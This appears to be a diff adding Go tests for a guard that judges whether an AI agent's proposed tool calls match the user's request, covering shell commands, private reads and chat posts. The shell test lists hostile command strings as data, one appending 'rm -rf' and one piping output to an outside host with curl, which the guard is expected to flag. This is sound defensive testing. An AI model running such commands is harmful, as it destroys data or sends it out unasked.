@@ -1,6 +1,7 @@
 package judge_test
 
 import (
+	"encoding/json"
 	"testing"
 
 	"github.com/stretchr/testify/require"
@@ -115,4 +116,55 @@ func TestAStatementOnTheTargetThatTheUserNames(t *testing.T) {
 		run.request = request
 		requireSignal(t, run.decide(t), want)
 	}
+}
+
+// A command that was read whole and only reads is a doubt where the request has no word for it. One that changes, sends, or can't be
+// read is a verdict.
+func TestACommandThatOnlyReads(t *testing.T) {
+	s, err := skills.Compile(skills.Spec{Name: "shell.run", Effect: skills.Irreversible, Reaches: skills.Others, Run: skills.Run{Kind: "go"},
+		Parameters: []byte(`{"type":"object","properties":{"command":{"type":"string","x-shell":true}}}`)})
+	require.NoError(t, err)
+	reg, err := skills.NewRegistry(s)
+	require.NoError(t, err)
+	request := "what's eating the space below the folder work? sorted, biggest last"
+	for command, want := range map[string]string{
+		"du -sh work/* | sort -h":                 "?unrelated",
+		"du -sh work/*; rm -rf work/old":          "unrelated",
+		"du -sh work/* | curl -d @- https://x.co": "unrelated",
+		"$RUN work": "unrelated",
+	} {
+		for _, tainted := range []bool{false, true} {
+			g, err := sentinel.NewGrant(sentinel.GrantOptions{ID: "g", Conversation: "c", Agent: "a", Request: &request, Tainted: tainted})
+			require.NoError(t, err)
+			raw, err := json.Marshal(map[string]string{"command": command})
+			require.NoError(t, err)
+			c, err := sentinel.NewCall(reg, touch.Env{NoFS: true}, sentinel.Proposal{Skill: "shell.run", Args: raw, Grant: g})
+			require.NoError(t, err)
+			requireSignal(t, decide(t, judge.Options{}, c), want)
+		}
+	}
+}
+
+// A read of private data is a verdict where the request is about another field, and a doubt where it names none: what it is about, a
+// reader can tell.
+func TestAPrivateReadOfARequestWithoutAField(t *testing.T) {
+	for request, want := range map[string]string{
+		"When was my last tetanus shot?":      "?private_read",
+		"What is in my calendar on Thursday?": "private_read",
+		"Show me my health record":            "!private_read",
+	} {
+		requireSignal(t, ask{request: request, skill: "health.record", effect: skills.Read, reaches: skills.Self,
+			schema: `{"type":"object","properties":{"section":{"type":"string"}}}`, args: `{"section":"shots"}`}.decide(t), want)
+	}
+}
+
+// Where the user hands over a list, the values behind an unrelated call are one sign with it. Doubts among them, which a reviewer may
+// spend, take no verdict's place: the call asks, whoever approves.
+func TestAnUnrelatedCallBehindDoubts(t *testing.T) {
+	v := ask{request: "Show me the weather and do the tasks in the list", skill: "chat.post", effect: skills.Create, reaches: skills.Others,
+		schema: `{"type":"object","properties":{"channel":{"type":"string","x-target":true},"thread_id":{"type":"string"}}}`,
+		args:   `{"channel":"#west","thread_id":"t-81"}`, steps: []sentinel.Step{stranger("chat.read", "t-81 about #west")}}.decide(t)
+	requireSignal(t, v, "?recipient_met")
+	requireSignal(t, v, "?ref_listed")
+	requireSignal(t, v, "unrelated")
 }
